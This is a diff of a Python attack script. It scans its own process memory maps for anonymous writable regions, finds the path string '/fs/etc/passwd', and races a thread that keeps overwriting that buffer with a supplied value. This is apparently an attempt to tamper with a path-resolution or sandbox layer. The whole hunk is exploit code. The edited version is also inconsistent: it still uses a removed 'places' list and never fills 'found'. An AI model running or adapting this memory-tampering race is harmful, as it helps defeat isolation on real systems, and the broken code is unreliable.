@@ -118,16 +118,20 @@ secret = sys.argv[1].encode()
 libc = ctypes.CDLL(None)
 over = time.monotonic() + 4
 def scratch():
+    open("/etc/passwd").close()
     for line in open("/proc/self/maps"):
+        if " rw-p 00000000 00:00 0" not in line or "[" in line:
+            continue
         start, end = (int(part, 16) for part in line.split()[0].split("-"))
-        if end - start == 65536 and " 00:00 0" in line:
-            yield start
-places = list(scratch())
+        bytes_ = ctypes.string_at(start, end - start)
+        at = bytes_.find(b"/fs/etc/passwd\0")
+        if at >= 0 and start + (bytes_.rfind(b"\0", 0, at) + 1) not in found:
+            yield start + (bytes_.rfind(b"\0", 0, at) + 1)
+found = []
 def write():
     while time.monotonic() < over:
         for place in places:
-            for slot in range(2):
-                ctypes.memmove(place + slot * 8192, secret + b"\0", len(secret) + 1)
+            ctypes.memmove(place, secret + b"\0", len(secret) + 1)
 thread = threading.Thread(target=write)
 thread.start()
 read = 0
